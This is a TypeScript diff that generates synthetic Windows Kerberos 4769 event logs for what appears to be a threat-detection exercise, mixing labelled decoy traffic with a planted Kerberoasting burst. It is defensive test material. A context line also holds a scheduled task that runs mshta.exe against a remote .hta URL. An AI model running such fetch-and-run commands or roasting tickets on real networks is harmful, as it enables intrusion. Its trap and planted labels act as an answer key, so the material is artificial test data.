@@ -145,3 +145,26 @@ export function wevtutilXml(): string[] {
   rows.push(task(rec++, 4 * 3600 + 300, 'svc_sql', '\\WindowsDefenderSync', 'C:\\Windows\\System32\\mshta.exe', 'http://203.0.113.77/s.hta'));
   return rows;
 }
+
+/** A 4769 (Kerberos service ticket requested) on DC01, EvtxECmd. */
+const tgs = (n: number, sec: number, user: string, ip: string, service: string, enc: string): string =>
+  evtxRow({ n, t: hms(sec), id: 4769, provider: SEC, channel: 'Security', computer: DC, map: 'A Kerberos service ticket was requested', remote: `(::ffff:${ip})`, user: `${user}@CORP.EXAMPLE.COM`, pd: [`Service: ${service}`, `TicketEncryptionType: ${enc}`, 'Status: 0x0', 'TicketOptions: 0x40810000'], data: { TargetUserName: `${user}@CORP.EXAMPLE.COM`, TargetDomainName: 'CORP.EXAMPLE.COM', ServiceName: service, ServiceSid: `${DOM}-${3000 + service.length}`, TicketOptions: '0x40810000', TicketEncryptionType: enc, IpAddress: `::ffff:${ip}`, IpPort: String(50000 + (n % 9000)), Status: '0x0', LogonGuid: '{6d2f1c3e-0000-0000-0000-000000000000}', TransmittedServices: '-' } });
+
+const SERVICE_ACCOUNTS = ['svc_sql', 'svc_iis_hr', 'svc_backup', 'svc_sharepoint', 'svc_crm', 'svc_reporting', 'svc_exchange_arch', 'svc_jenkins', 'svc_tableau', 'svc_sap', 'svc_bamboo', 'svc_confluence', 'svc_jira', 'svc_splunk', 'svc_nessus', 'svc_adfs', 'svc_print', 'svc_wsus'];
+
+/** DC01's service-ticket requests: 10.0.5.80 asks for AES tickets for 18 service accounts in a minute (Rubeus kerberoast /aes); workstations ask for their file servers and the one SQL service, in AES, all day. */
+export function aesRoast(): string[] {
+  const rows = [EVTX_HEADER];
+  let n = 20000;
+  // trap: ordinary clients: file servers and domain controllers (computer accounts), krbtgt renewals, the SQL service
+  for (let i = 0; i < 60; i++) {
+    const ip = `10.0.2.${20 + (i % 9)}`;
+    const u = SPRAYED[i % SPRAYED.length]!;
+    rows.push(tgs(n++, 7 * 3600 + i * 53, u, ip, ['FS01$', 'DC01$', 'krbtgt', 'svc_sql', 'APP02$'][i % 5]!, '0x12'));
+  }
+  // trap: the reporting server talks to a handful of service accounts every few minutes
+  for (let i = 0; i < 40; i++) rows.push(tgs(n++, 8 * 3600 + i * 170, 'svc_reporting', '10.0.3.15', SERVICE_ACCOUNTS[i % 5]!, '0x12'));
+  // planted: a Kerberoasting tool asking for AES tickets for every service account at once
+  SERVICE_ACCOUNTS.forEach((s, i) => rows.push(tgs(n++, 2 * 3600 + 40 * 60 + i * 3, 'j.wilson', '10.0.5.80', s, '0x12')));
+  return rows;
+}
